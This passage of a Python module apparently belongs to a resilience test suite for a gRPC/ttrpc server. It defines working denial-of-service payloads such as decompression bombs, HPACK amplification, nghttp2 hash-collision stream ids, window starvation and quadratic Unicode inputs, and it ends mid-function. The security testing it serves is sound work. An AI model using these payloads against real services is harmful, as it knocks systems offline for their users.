"""The attacks as data: what each connection sends, and what the server promises meanwhile.

A conversation yields the next bytes to send, with a file if they are a `WithFile`, a number of seconds to wait, or `HANG_UP`. When it ends, the connection
stays open until the time is over. `facts` has `token` (a session of the attacker), `victim` (the victim's user id), `scale` (1, or less in the short
form) and `seconds`. """
import functools
import gzip
import itertools
import time
import uuid
import zlib
from dataclasses import dataclass
from typing import Callable

from . import wire
from .wire import (
    ACK, CANCEL, CLOSED, DATA, END_HEADERS, END_STREAM, H2_CONTINUATION, H2_DATA, H2_HEADERS, H2_PING, H2_PRIORITY, H2_PRIORITY_UPDATE, H2_UNKNOWN,
    H2_WINDOW_UPDATE, HANG_UP, NO_DATA, OPEN, WithFile, bearer, field, from_table, h2, hello, literal, request, ttrpc, varint)

MIB = 1 << 20

CHECK = "grpc.health.v1.Health/Check"
LIST = "grpc.health.v1.Health/List"
WATCH = "grpc.health.v1.Health/Watch"
REFLECT = "grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
STATE = "pulseboard.auth.v1.AuthService/GetAuthState"
PROFILES = "pulseboard.profile.v1.ProfileService"
MY_PROFILE = f"{PROFILES}/GetMyProfile"
UPDATE_ENTRY = "pulseboard.diary.v1.DiaryService/UpdateDiaryEntry"
PUSH = "pulseboard.diary.v1.DiaryService/PushDiaryMutations"

# What a uid may hold (256 MiB), what an idle server takes, and a quarter for the allocator's overhead.
MEMORY = 400  # MiB
# The same where a thousand small blocks of a connection are freed between those of new connections. The allocator cannot use all of the holes.
MEMORY_IN_PIECES = 460  # MiB


@dataclass(frozen=True)
class Attack:
    name: str
    section: int  # of the issue
    seen: str  # what it did to 61d76b9, in words
    conversation: Callable
    connections: int = 1
    scales: bool = False  # whether the short form has fewer connections
    reads: str = "all"  # or "nothing"
    redials: bool = True  # whether a closed connection is dialled again
    seconds: float = 4
    short_seconds: float = 2
    # MARK: what is promised, besides a victim that is served and a server that is idle at the end
    memory: int = MEMORY  # MiB resident at most
    every_connection_ends: bool = False  # the server closes each
    longest_open: float = 0  # seconds that a connection may last; 0: any time
    stops_within: float = 4  # seconds from SIGTERM to the end
    stops_meanwhile: bool = False  # SIGTERM comes while the attack goes on
    latency: bool = True  # whether the victim's latency is judged
    # MARK: how the server runs
    arguments: tuple = ("--grace-period", "1")
    unread_log: bool = False  # its standard error is a pipe that nobody reads
    gateway: bool = False  # attacker and victim come through one gateway: on the remote socket, with the gateway's uid
    needs_uids: bool = False  # says nothing where attacker and victim share a uid
    in_short_form: bool = True

    def count(self, facts):
        return max(1, round(self.connections * facts.scale)) if self.scales else self.connections


def ids():
    """A client's stream ids."""
    return itertools.count(1, 2)


def unary_calls(method, count, metadata=b"", body=b""):
    """Whole gRPC calls of one client, with the same request."""
    return [
        h2(H2_HEADERS, END_HEADERS, stream, wire.headers(method, metadata)) + wire.data(stream, wire.message(body), END_STREAM)
        for stream in itertools.islice(ids(), count)]


# MARK: no request stops the loop

def quadratic(count):
    """Marks of descending classes. Sorting them by insertion takes quadratic time."""
    return ("a" + "\u0315\u0300" * count)[:count // 2]


def long_text(byte_count):
    text = quadratic(byte_count // 2)
    text = text.encode()[:byte_count - 2].decode(errors="ignore")
    bodies = [
        (f"{PROFILES}/CheckUsername", field(1, text)),
        (f"{PROFILES}/SearchProfiles", field(1, text)),
        (f"{PROFILES}/CreateProfile", field(1, "ab") + field(2, text)),
        (f"{PROFILES}/CreateProfile", field(1, "ab") + field(3, text)),
        (f"{PROFILES}/GetProfile", field(2, text)),
    ]

    def conversation(index, facts):
        stream = ids()
        for method, body in itertools.cycle(bodies):
            yield ttrpc(request(method, body, bearer(facts.token)), next(stream))
            yield 0.2
    return conversation


def marks(byte_count):
    """Combining marks of two classes in turn. Comparing or hashing such a text as characters takes quadratic time."""
    return "\u0301\u0316" * (byte_count // 4)


def texts_in_other_fields(index, facts):
    """The longest texts that are still handled on the event loop, in fields that are compared and not kept: etags, paths, names, tokens. And the
    longest metadata, 16 calls in one write."""
    diary, account, follow = "pulseboard.diary.v1.DiaryService", "pulseboard.account.v1.AccountService", "pulseboard.follow.v1.FollowService"
    text, short = marks(60 << 10), marks(15 << 10)
    entry, user = "0e1d7a54-7c3c-4c55-9d3b-6a1b6f0a0001", "0e1d7a54-7c3c-4c55-9d3b-6a1b6f0a0002"
    content = field(1, entry) + field(2, varint(8) + varint(1_700_000_000)) + field(3, "calm") + field(4, "a")
    stamp = field(2, user) + varint(8) + varint(1)
    mutation = varint(8) + varint(1) + field(2, entry) + field(3, stamp) + field(6, field(1, field(1, text) + field(2, stamp)))
    bodies = [
        (f"{diary}/UpdateDiaryEntry", field(1, field(1, entry) + field(4, "b")) + field(2, field(1, "text")) + field(3, text)),
        (f"{diary}/UpdateDiaryEntry", field(1, field(1, entry)) + field(2, field(1, text))),
        (f"{diary}/PushDiaryMutations", field(1, user) + field(2, mutation)),
        (f"{diary}/CreateDiaryEntry", field(1, field(1, entry) + field(3, text))),
        (f"{diary}/ListDiaryEntries", field(2, text)),
        (f"{diary}/ListDiaryEntries", field(5, text)),
        (f"{diary}/ListDiaryEntries", field(6, text)),
        (f"{diary}/RegisterDiaryDevice", field(1, user) + field(2, text)),
        (f"{diary}/PullDiaryChanges", field(1, user) + field(2, text)),
        (f"{PROFILES.rsplit('.', 1)[0]}.ProfileImageService/GetProfileImage", field(3, text)),
        (f"{PROFILES}/UpdateProfile", field(1, field(2, "ab") + field(8, text))),
        (f"{PROFILES}/UpdateProfile", field(2, field(1, text))),
        (f"{PROFILES}/UpdateProfile", field(1, field(2, "ab")) + field(3, text)),
        (f"{PROFILES}/ReserveUsername", field(1, text)),
        (f"{follow}/Follow", field(1, text)),
        (f"{follow}/Follow", field(1, user) + field(2, text)),
        (f"{follow}/WatchFollows", field(1, text)),
        (f"{account}/UnlinkIdentity", field(1, text) + field(2, text[:1000])),
        ("pulseboard.auth.v1.AuthService/SignIn", field(1, field(1, text))),
        ("pulseboard.auth.v1.AuthService/SignIn", field(1, b"") + field(3, field(1, text))),
        ("pulseboard.auth.v1.AuthService/ListSessions", field(2, text)),
        (CHECK, field(1, text)),
    ]
    reflected = [(REFLECT, field(number, text)) for number in (3, 4, 6)] + [(REFLECT, field(5, field(1, text)))]
    pairs = [[("pulse-ttrpc", short)], [(short, "drain")], [("pulseboard-consistency", short)], [("traceparent", short)]]
    stream = ids()
    for method, body in [(f"{PROFILES}/CreateProfile", field(1, "attacker")), (f"{diary}/CreateDiaryEntry", field(1, content))]:
        yield ttrpc(request(method, body, bearer(facts.token)), next(stream))
        yield 0.2
    while True:
        for method, body in bodies:
            yield ttrpc(request(method, body, bearer(facts.token)), next(stream))
            yield 0.02
        for method, body in reflected:
            call = next(stream)
            yield ttrpc(request(method), call, flags=OPEN | NO_DATA) + ttrpc(body, call, DATA) + ttrpc(b"", call, DATA, CLOSED | NO_DATA)
            yield 0.02
        for pair in pairs:
            yield b"".join(ttrpc(request(STATE, b"", pair), next(stream)) for _ in range(16))
            yield 0.02


def empty_stamps(count):
    """A mutation of a diary with empty messages inside, of two bytes each. No other request takes as long to decode for its size."""
    return field(2, b"\x22\x00" * count)


def many_fields(index, facts):
    """Requests of 65,000 bytes, four in a read, without a session."""
    body, stream = request(PUSH, empty_stamps(32_500)), ids()
    while True:
        yield b"".join(ttrpc(body, next(stream)) for _ in range(4))


def fields_of_a_group(index, facts):
    """Requests of 4 MiB with an unknown group of two million fields, without a session."""
    body, stream = request(CHECK) + b"\x33" + b"\x08\x00" * (2 * MIB - 100) + b"\x34", ids()
    while True:
        yield ttrpc(body, next(stream))


def large_requests(index, facts):
    """Requests of 4 MiB, which take longer to decode than the client stays."""
    body = request(PUSH, empty_stamps(2_000) * 1_040, bearer(facts.token))
    for _, stream in zip(range(60), ids()):
        yield ttrpc(body, stream)


def requests_that_grow(index, facts):
    """Updates of a diary entry with slow text and 30,000 empty pictures. While a call waits, each picture takes fifty times its two bytes of memory."""
    marks = ("a" + "\u0315\u0300" * 15) * 620
    entry = field(1, str(uuid.uuid4())) + field(4, marks) + field(5, b"") * 30_000
    body, stream = request(UPDATE_ENTRY, field(1, entry) + field(2, field(1, "text")), bearer(facts.token)), ids()
    while True:
        yield ttrpc(body, next(stream))


def half_or_whole_requests(index, facts):
    """Most connections send half of a message and stop. The others send whole requests that grow."""
    return (requests_that_grow if index % 8 == 0 else half_a_message)(index, facts)


def long_language(index, facts):
    value = "ko;q=0.1," * (4 * MIB // 9 - 64)
    body = request(MY_PROFILE, b"", [("accept-language", value)])
    for stream in ids():
        yield ttrpc(body, stream)
        yield 0.2


def language_of_the_table(index, facts):
    """A header of 3.7 KB is sent once, and then repeated by one byte: three times in a call, a thousand calls a second."""
    language = literal("accept-language", "ko;q=0.1," * 410, indexed=True)
    stream = ids()
    yield hello() + h2(H2_HEADERS, END_HEADERS, next(stream), wire.headers(MY_PROFILE, language, indexed=True)) + wire.data(
        1, wire.message(), END_STREAM)
    # The newest is 62: language, te, content-type, path.
    block = wire.POST + wire.HTTP + from_table(65) + from_table(64) + from_table(63) + from_table(62) * 3
    while True:
        calls = [next(stream) for _ in range(50)]
        yield b"".join(h2(H2_HEADERS, END_HEADERS, call, block) + wire.data(call, wire.message(), END_STREAM) for call in calls)
        yield 0.05


def trailers_of_the_table(index, facts):
    """Trailers of 147 KB that name a field of 3.9 KB by each byte, after frames that make the server read in large parts."""
    size, frames = 16 << 10, 9
    large = literal("x", "y" * 3_900, indexed=True)
    block = from_table(62) * size
    yield hello() + h2(H2_HEADERS, END_HEADERS, 1, wire.headers(REFLECT, large)) + h2(H2_UNKNOWN, 0, 0, b"x" * size) * 190
    for call in itertools.count(1, 2):
        if call > 1:
            yield h2(H2_HEADERS, END_HEADERS, call, wire.headers(REFLECT))
        yield h2(H2_HEADERS, END_STREAM, call, block) + b"".join(
            h2(H2_CONTINUATION, END_HEADERS if number == frames - 1 else 0, call, block) for number in range(1, frames))
        yield 0.3


LARGE_PARTS = h2(H2_UNKNOWN, 0, 0, b"x" * (16 << 10)) * 16
"""Frames that make the server read in large parts."""


def trailers_with_long_names(index, facts):
    """Five hundred trailers for each stream. Each names a field of 3.9 KB four times, with a byte each, and does not end the stream."""
    large = literal("y" * 3_900, "x", indexed=True)
    yield hello() + h2(H2_HEADERS, END_HEADERS, 1, wire.headers(REFLECT, large)) + LARGE_PARTS
    for call in itertools.count(1, 2):
        opening = h2(H2_HEADERS, END_HEADERS, call, wire.headers(REFLECT)) if call > 1 else b""
        yield opening + h2(H2_HEADERS, END_HEADERS, call, from_table(62) * 4) * 500
        yield 0.01


def shortest_headers(index, facts):
    """Thousands of the shortest HEADERS in one read."""
    yield hello() + LARGE_PARTS
    yield b"".join(h2(H2_HEADERS, END_HEADERS | END_STREAM, stream, from_table(3)) for stream in itertools.islice(ids(), 13_000))


def frames_of_a_byte(index, facts):
    """Messages of 4 MB in DATA frames of a byte each."""
    size, batch = 4_000_000, 8_000
    yield hello()
    for call in ids():
        yield LARGE_PARTS + h2(H2_HEADERS, END_HEADERS, call, wire.headers(CHECK)) + h2(H2_DATA, 0, call, b"\0" + size.to_bytes(4, "big"))
        for _ in range(size // batch):
            yield h2(H2_DATA, 0, call, b"x") * batch


def colliding_http2_ids(index, facts):
    """A thousand streams at one place of libnghttp2's table, which has no random key. Each frame of the last one looks at all of them."""
    # The place is the upper bits of the id times this number (lib/nghttp2_map.c). These ids share its upper 11 bits.
    inverse = pow(2_654_435_769, -1, 1 << 32)
    colliding = sorted(itertools.islice((call for odd in range(1, 1 << 21, 2) if (call := odd * inverse % (1 << 32)) < 1 << 31), 1_000))
    size, batch = 4_000_000, 8_000
    yield hello() + b"".join(wire.call(call, WATCH) for call in colliding[:-1])
    yield LARGE_PARTS + h2(H2_HEADERS, END_HEADERS, colliding[-1], wire.headers(CHECK)) + h2(H2_DATA, 0, colliding[-1], b"\0" + size.to_bytes(4, "big"))
    while True:
        yield h2(H2_DATA, 0, colliding[-1], b"x") * batch


def priorities_of_waiting_streams(index, facts):
    """A thousand answers wait for the connection's window. PRIORITY frames then make each of two streams the parent of all others, in turn."""
    def prefer(stream, parent):
        return h2(H2_PRIORITY, 0, stream, (1 << 31 | parent).to_bytes(4, "big") + b"\x0f")

    calls = list(itertools.islice(ids(), 1_000))
    large, waiting = calls[:3], calls[3:]
    yield hello() + b"".join(
        h2(H2_HEADERS, END_HEADERS, call, wire.headers(REFLECT)) + wire.data(call, wire.message(asks_much())) for call in large)
    yield 0.2  # their answers use the window up
    yield b"".join(wire.call(call, WATCH) for call in waiting)
    yield 0.3
    # Many bytes in one write make the server read in large parts.
    yield h2(H2_UNKNOWN, 0, 0, b"x" * 16_384) * 190 + prefer(waiting[0], 0)
    while True:
        yield (prefer(waiting[0], waiting[1]) + prefer(waiting[1], waiting[0])) * 4_500
        yield 0.3


def slow_files(index, facts):
    """Files that are slow to close. Each is sent behind a call that keeps the server busy, so that the server is the last to close it."""
    busy = request("pulseboard.diary.v1.DiaryService/PushDiaryMutations", field(2, b"\x22\0" * 10_000))
    yield 0.2
    yield ttrpc(busy, 1)
    yield WithFile(ttrpc(request(CHECK), 3), 4)


def start_and_cancel(index, facts):
    body, stream = request(WATCH, field(1, "")), ids()
    while True:
        calls = [next(stream) for _ in range(1_000)]
        yield b"".join(ttrpc(body, call, flags=CLOSED) + ttrpc(b"", call, CANCEL) for call in calls)


def bombs(index, facts):
    """Messages of 4 MiB, compressed to 4 KB each, at 0.45 MB/s."""
    packed = gzip.compress(field(1, "a" * (4 * MIB - 16)), 9)
    encoding = literal("grpc-encoding", "gzip")
    block, body = wire.headers(CHECK, encoding), wire.message(packed, compressed=True)
    stream = ids()
    yield hello()
    while True:
        calls = [next(stream) for _ in range(11)]
        yield b"".join(h2(H2_HEADERS, END_HEADERS, call, block) + wire.data(call, body, END_STREAM) for call in calls)
        yield 11 * len(packed) / 450_000


def empty_block():
    """The dearest input of zlib: eight blocks of DEFLATE without content, each with its own codes (RFC 1951, 3.2.7)."""
    number = count = 0

    def put(value, bits):
        nonlocal number, count
        number |= value << count
        count += bits

    for _ in range(8):
        put(0, 1)  # not the last block
        put(2, 2)  # with its own codes
        put(0, 5 + 5)  # 257 codes of literals, one of distances
        put(18 - 4, 4)  # 18 lengths of the codes below, in the order of the RFC: only 18 (many zeros) and 1 have a code
        for place in range(18):
            put(place in (2, 17), 3)
        for zeros in (138, 118):
            put(1, 1)
            put(zeros - 11, 7)
        put(0, 1 + 1)  # the end of a block and the only distance have one bit
        put(0, 1)  # the end of the block
    assert count % 8 == 0
    return number.to_bytes(count // 8, "little")


def empty_blocks(index, facts):
    """Messages of a MiB that decompress to nothing."""
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\x03"
    blocks = empty_block()
    packed = head + blocks * (MIB // len(blocks))
    block, body = wire.headers(CHECK, literal("grpc-encoding", "gzip")), wire.message(packed, compressed=True)
    stream = ids()
    yield hello()
    while True:
        call = next(stream)
        yield h2(H2_HEADERS, END_HEADERS, call, block) + wire.data(call, body, END_STREAM)


def bombs_of_streams(index, facts):
    """Messages of streams that cost far more than their bytes. Those of two thirds of the connections are just small enough for the loop to decompress
    and decode: they become hundreds of times their size, or nothing. Each is a question with the same field many times, or without any, so its answer
    is small. There is room for all answers."""
    blocks = empty_block()
    packed = (
        gzip.compress(field(1, "h" * 100) * 145, 9),
        gzip.compress(field(1, "") * (MIB // 5), 9),
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + blocks * (990 // len(blocks)) + b"\1\0\0\xff\xff" + b"\0" * 8)[index % 3]
    head, many = wire.headers(REFLECT, literal("grpc-encoding", "gzip")), wire.message(packed, compressed=True) * (16_000 // len(packed))
    room, new = 1 << 30, ids()
    yield hello(initial_window=room) + h2(H2_WINDOW_UPDATE, 0, 0, room.to_bytes(4, "big"))
    while True:
        streams = list(itertools.islice(new, 16))
        yield b"".join(h2(H2_HEADERS, END_HEADERS, stream, head) for stream in streams)
        for _ in range(15):  # a stream's window is 256 KiB
            yield b"".join(wire.data(stream, many) for stream in streams)
            yield 0.05


def same_deadline(index, facts):
    """All of a connection's calls end at the same moment."""
    body, stream = request(WATCH, field(1, "")), ids()
    while True:
        end = int(time.monotonic()) + 2
        for _ in range(16):
            left = int(max(0.1, end - time.monotonic()) * 1e9)
            with_deadline = body + varint(4 << 3) + varint(left)
            yield b"".join(ttrpc(with_deadline, next(stream), flags=CLOSED) for _ in range(64))
        yield max(0.01, end + 0.3 - time.monotonic())


def short_deadlines(index, facts):
    """A thousand watches of 50 ms on each connection, again and again. So thousands of timers are always due."""
    body, stream = request(WATCH, field(1, "")) + varint(4 << 3) + varint(50_000_000), ids()
    while True:
        for _ in range(16):
            yield b"".join(ttrpc(body, next(stream), flags=CLOSED) for _ in range(60))
        yield 0.05


def small_messages(index, facts):
    """Streams of the smallest questions, over both protocols. Each is answered with an error in the stream."""
    if index % 2:
        yield hello() + h2(H2_HEADERS, END_HEADERS, 1, wire.headers(REFLECT))
        many = wire.data(1, wire.message() * 3_000)
    else:
        yield ttrpc(request(REFLECT), 1, flags=OPEN)
        many = ttrpc(b"", 1, DATA) * 1_000
    while True:
        yield many
        yield 0.02


def typed_usernames(index, facts):
    """Types usernames into 60 streams of a connection, as fast as the server takes them. No text is the one before."""
    body = request(f"{PROFILES}/CheckUsernames", b"", bearer(facts.token))
    streams = range(1, 121, 2)
    yield b"".join(ttrpc(body, stream, flags=OPEN) for stream in streams)
    for number in itertools.cycle(range(10_000)):
        yield b"".join(ttrpc(field(1, f"name{number:04d}"), stream, DATA) for stream in streams)


def png(side):
    """A square picture of 16 bits a channel, slow to decode for its few bytes."""
    def chunk(kind, payload):
        return len(payload).to_bytes(4, "big") + kind + payload + zlib.crc32(kind + payload).to_bytes(4, "big")

    row, packer = b"\4" + (bytes(range(1, 256)) * (side * 6 // 255 + 1))[:side * 6], zlib.compressobj(1)
    rows = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = side.to_bytes(4, "big") * 2 + bytes([16, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pictures(index, facts):
    """Pictures of 32 megapixels, one after the other: the decoder never rests."""
    picture, stream = png(5_656), ids()
    chunks = [picture[at:at + MIB] for at in range(0, len(picture), MIB)]
    while True:
        call = next(stream)
        yield ttrpc(request(f"{PROFILES.rsplit('.', 1)[0]}.ProfileImageService/UploadProfileImage", b"", bearer(facts.token)), call, flags=OPEN | NO_DATA)
        yield ttrpc(field(1, varint(8) + varint(len(picture))), call, DATA)
        yield b"".join(ttrpc(field(2, chunk), call, DATA) for chunk in chunks) + ttrpc(b"", call, DATA, CLOSED | NO_DATA)
        yield 0.2


def profile(facts, stream):
    """Creates the attacker's profile, which some methods require."""
    yield ttrpc(request(f"{PROFILES}/CreateProfile", field(1, "attacker"), bearer(facts.token)), next(stream))
    yield 0.2


def slow_reads(index, facts):
    """Searches of a diary of 2 MB, lists of sessions and searches of profiles: hundreds of calls of one account that read from the store."""
    diary, stream = "pulseboard.diary.v1.DiaryService", ids()
    yield from profile(facts, stream)
    for number in range(350):
        content = field(1, f"0e1d7a54-7c3c-4c55-9d3b-6a1b6f0a{number:04x}") + field(2, varint(8) + varint(1_700_000_000 + number)) + field(
            3, "calm") + field(4, "가나다" * 660)
        yield ttrpc(request(f"{diary}/CreateDiaryEntry", field(1, content), bearer(facts.token)), next(stream))
    bodies = [
        (f"{diary}/ListDiaryEntries", field(6, "zzz")), ("pulseboard.auth.v1.AuthService/ListSessions", varint(8) + varint(1)),
        (f"{PROFILES}/SearchProfiles", field(1, "v")), (f"{diary}/GetDiaryEntry", field(1, "0e1d7a54-7c3c-4c55-9d3b-6a1b6f0a0001"))]
    while True:
        for method, body in bodies:
            yield b"".join(ttrpc(request(method, body, bearer(facts.token)), next(stream)) for _ in range(16))
        yield 0.05


def watched_follows(index, facts):
    """60 watches of one's own follows, and a loop of follows that wakes them."""
    follows, stream = "pulseboard.follow.v1.FollowService", ids()
    yield from profile(facts, stream)
    if index > 0:
        body = request(f"{follows}/WatchFollows", b"", bearer(facts.token))
        yield b"".join(ttrpc(body, next(stream), flags=CLOSED) for _ in range(60))
        return
    yield 0.2
    bodies = [request(f"{follows}/{method}", field(1, facts.victim), bearer(facts.token)) for method in ("Follow", "Unfollow")]
    while True:
        yield b"".join(ttrpc(body, next(stream)) for body in bodies * 8)
        yield 0.008


def long_lists(index, facts):
    """Opens a hundred sessions with long names, and lists them all the time."""
    authentication, stream = "pulseboard.auth.v1.AuthService", ids()
    for number in range(99):
        device = field(1, f"device-{number}") + field(2, "가" * 64) + field(3, "p" * 32)
        yield ttrpc(request(f"{authentication}/SignIn", field(1, b"") + field(3, device)), next(stream))
    yield 0.2
    body = request(f"{authentication}/ListSessions", varint(8) + varint(200), bearer(facts.token))
    while True:
        yield b"".join(ttrpc(body, next(stream)) for _ in range(16))
        yield 0.008


def batches_of_one(index, facts):
    """Batches that ask for one profile a hundred times."""
    body, stream = request(f"{PROFILES}/BatchGetProfiles", field(1, facts.victim) * 100, bearer(facts.token)), ids()
    while True:
        yield b"".join(ttrpc(body, next(stream)) for _ in range(64))


def batches_of_nobody(index, facts):
    """Relationships to a hundred users who are not there, and then the client leaves."""
    strangers = b"".join(field(1, str(uuid.uuid4())) for _ in range(100))
    body, stream = request("pulseboard.follow.v1.FollowService/BatchGetRelationships", strangers, bearer(facts.token)), ids()
    while True:
        yield b"".join(ttrpc(body, next(stream)) for _ in range(64))


# MARK: one account of memory and places

def many_watches(index, facts):
    name = "x" * (4 * MIB - 256)
    body = request(WATCH, field(1, name))
    for stream in itertools.islice(ids(), max(1, round(1_000 * facts.scale))):
        yield ttrpc(body, stream, flags=CLOSED)


def kept_metadata(index, facts):
    body = request(WATCH, field(1, ""), [(f"k{number}", "v" * 10_000) for number in range(120)])
    for stream in itertools.islice(ids(), max(1, round(1_000 * facts.scale))):
        yield ttrpc(body, stream, flags=CLOSED)


# Made once: making a thousand takes the attacker ten seconds, and the attack would be slow.
HALF_A_FRAME = ttrpc(b"\x0a" + b"x" * (4 * MIB - 1), 1)[:-1]


def half_a_frame(index, facts):
    yield HALF_A_FRAME


def half_a_message(index, facts):
    """Incomplete messages that fill the windows of 256 streams, sent in steps as the connection's window permits."""
    yield hello()
    part = (b"\0" + (4 * MIB).to_bytes(4, "big") + b"x" * (64 * 1024 - 5))[:60_000]
    for stream in itertools.islice(ids(), 1_000):
        yield h2(H2_HEADERS, END_HEADERS, stream, wire.headers(CHECK)) + wire.data(stream, part)
        if stream % 32 == 1:
            yield 0.02


def asks_much(host_bytes=16_000):
    """A request to the reflection service. The answer contains the request, and files."""
    return field(1, "h" * host_bytes) + field(4, PROFILES)


def no_window(index, facts):
    question = asks_much()
    yield hello(initial_window=0)
    for count, stream in enumerate(itertools.islice(ids(), 1_000)):
        yield h2(H2_HEADERS, END_HEADERS, stream, wire.headers(REFLECT)) + wire.data(stream, wire.message(question))
        if count % 64 == 63:
            yield 0.05


def narrow_window(index, facts):
    """Reads everything, and opens each answer's window by one byte a second."""
    streams = [1, 3, 5, 7]
    yield hello(initial_window=0) + b"".join(
        h2(H2_HEADERS, END_HEADERS, stream, wire.headers(REFLECT)) + wire.data(stream, wire.message(asks_much())) for stream in streams)
    while True:
        yield 1.0
        yield b"".join(h2(H2_WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in streams)


def never_reads(index, facts):
    question, stream = asks_much(), ids()
    for call in itertools.islice(stream, 200):
        yield ttrpc(request(REFLECT, question), call, flags=OPEN)


def ends_on_a_full_socket(index, facts):
    """Calls whose answers nobody reads, until the socket is full, and then a broken frame. How many answers fill it depends on the kernel, so each
    connection makes some more calls than the one before."""
    stream = ids()
    yield hello(initial_window=1 << 20) + h2(H2_WINDOW_UPDATE, 0, 0, (1 << 28).to_bytes(4, "big"))
    for _ in range(120 + 2 * index):
        yield b"".join(wire.call(next(stream), LIST) for _ in range(25))
        yield 0.01
    yield 0.1
    yield h2(H2_DATA, 0, 0, b"x")


def no_ttrpc_window(index, facts):
    """Streams whose answers wait for a window that never comes. Their questions are as large as their answers."""
    body = request(REFLECT, b"", [("pulse-ttrpc", "window=0")])
    question = asks_much(60_000)
    for stream in itertools.islice(ids(), 1_000):
        yield ttrpc(body, stream, flags=OPEN) + ttrpc(question, stream, DATA)


def loads_in_turn(index, facts):
    """Fills the user's memory with small messages and calls, and hangs up. Then the next connection does the same, perhaps on another thread of the server."""
    queued = b"".join(
        ttrpc(request(REFLECT, b"", [("pulse-ttrpc", "window=0")]), stream, flags=OPEN) + ttrpc(field(3, "x" * 700), stream, DATA) * 20
        for stream in itertools.islice(ids(), 1_024))
    calls = hello() + b"".join(unary_calls(WATCH, 1_024, literal("x-a", "y" * 100)))
    for load in itertools.cycle((queued, calls)):
        yield load
        yield 1.2 - time.monotonic() % 1.2  # all hang up at the same time
        yield HANG_UP


def exits(index, facts):
    """A process with many connections and calls that exits: all of its connections end at the same moment."""
    yield hello() + b"".join(unary_calls(WATCH, 64))
    yield 1.3 - time.monotonic() % 1.3
    yield HANG_UP


def calls_and_leaves(index, facts):
    """Calls, and closes the socket at once, mostly before the server has accepted it."""
    body = request("pulseboard.auth.v1.AuthService/SignIn", field(1, b""))
    yield b"".join(ttrpc(body, stream, flags=CLOSED) for stream in itertools.islice(ids(), 64))
    yield HANG_UP


@functools.cache
def gathered(method, metadata, body=b""):
    """A thousand gRPC calls of one client, in a hundred writes."""
    calls = unary_calls(method, 1_000, metadata, body)
    return [b"".join(calls[first:first + 10]) for first in range(0, 1_000, 10)]


def watches_and_leaves(index, facts):
    """Watches with much metadata, and hangs up. The server then has a quarter of a million texts to free."""
    metadata = b"".join(literal(f"key-number-{number:03}", f"value-of-number-{number:08}") for number in range(118))
    yield hello()
    yield from gathered(WATCH, metadata)
    yield 0.4
    yield HANG_UP


def leaves_beside_ready_work(index, facts):
    """Two thirds of the connections begin calls with much metadata and hang up. The others keep streams busy, so that much work is always ready."""
    if index % 3 == 0:
        streams = list(itertools.islice(ids(), 120))
        yield b"".join(ttrpc(request(REFLECT), stream, flags=OPEN) for stream in streams)
        questions = b"".join(ttrpc(b"", stream, DATA) * 50 for stream in streams)
        while True:
            yield questions
    entry, again = literal("x-aaaaaaaaaaaaaaaaaa", "b" * 80, indexed=True), from_table(62)
    streams = itertools.islice(ids(), 900)
    heads = [
        h2(H2_HEADERS, END_HEADERS, stream, wire.headers(CHECK, (entry if stream == 1 else b"") + again * 115)) for stream in streams]
    yield hello() + b"".join(heads)
    yield 2.5
    yield HANG_UP


def reads_and_leaves(index, facts):
    """Reads profiles by name a thousand times, and hangs up before all are answered."""
    yield hello(initial_window=0)
    yield from gathered(f"{PROFILES}/GetProfile", literal("authorization", f"Bearer {facts.token}"), field(2, "nobody"))
    yield 0.25
    yield HANG_UP


def every_place(index, facts):
    """As many calls as a connection may have, and more whenever there may be room."""
    body, stream = request(WATCH, field(1, "")), ids()
    while True:
        yield b"".join(ttrpc(body, next(stream), flags=CLOSED) for _ in range(1_024))
        yield 1.0


def says_nothing(index, facts):
    yield b""


def half_a_request(index, facts):
    """Over ttrpc, a frame without its end. Over gRPC, half a message, or headers without a message."""
    opening = hello() + h2(H2_HEADERS, END_HEADERS, 1, wire.headers(CHECK))
    yield (ttrpc(request(CHECK), 1)[:-2], opening + h2(H2_DATA, 0, 1, b"\0\0\0\0\x09half"), opening)[index % 3]


# MARK: floods

def flood(*frames, before=b"", size=64 * 1024):
    """The same frames for ever, after the connection's start."""
    unit = b"".join(frames)
    many = unit * max(1, size // len(unit))

    def conversation(index, facts):
        yield hello() + before
        while True:
            yield many
    return conversation


def resets_by_the_server(index, facts):
    """Invalid headers, so that the server resets every stream."""
    block, stream = wire.headers(CHECK, literal("Upper-Case", "x")), ids()
    yield hello()
    while True:
        yield b"".join(h2(H2_HEADERS, END_HEADERS | END_STREAM, next(stream), block) for _ in range(500))


def frames_on_closed_streams(kind, payload=b""):
    def conversation(index, facts):
        yield hello() + wire.call(1, CHECK)
        yield 0.1  # the call is answered, and its stream is over
        frame = h2(kind, END_HEADERS if kind == H2_HEADERS else 0, 1, payload)
        while True:
            yield frame * 500
    return conversation


def continuations(index, facts):
    yield hello() + h2(H2_HEADERS, 0, 1, wire.headers(CHECK))
    while True:
        yield h2(H2_CONTINUATION, 0, 1, literal("k", "v")) * 500


def same_id(index, facts):
    frame = ttrpc(request(STATE), 1)
    while True:
        yield frame * 500


def colliding_ids(index, facts):
    """Ids that differ only in their upper bits, which collide in a hash table without a random key."""
    body = request(WATCH, field(1, ""))
    for call in range(1_000):
        yield ttrpc(body, (call << 20 | 1) & 0x7FFF_FFFF, flags=CLOSED)
    frame = ttrpc(b"x", 0x3FFF_FFFF, DATA)
    while True:
        yield frame * 500


def refused_calls(index, facts):
    """1,024 calls that stay, and then calls beyond the connection's limit."""
    body, stream = request(WATCH, field(1, "")), ids()
    while True:
        yield b"".join(ttrpc(body, next(stream), flags=CLOSED) for _ in range(1_024))


def empty_data(index, facts):
    """Frames without a message on a stream that is open."""
    yield ttrpc(request(REFLECT), 1, flags=OPEN)
    frame = ttrpc(b"", 1, DATA, NO_DATA)
    while True:
        yield frame * 500


def data_of_no_stream(index, facts):
    frame = ttrpc(b"", 1, DATA, CLOSED | NO_DATA)
    yield ttrpc(request(CHECK), 1)
    while True:
        yield frame * 500


def other_protocol(index, facts):
    """The first bytes of PostgreSQL, D-Bus and SMB, which look like a long ttrpc frame."""
    yield (
        b"\0\0\0\x54\0\x03\0\0user\0postgres\0",  # PostgreSQL: StartupMessage
        b"\0AUTH EXTERNAL 30\r\n",  # D-Bus
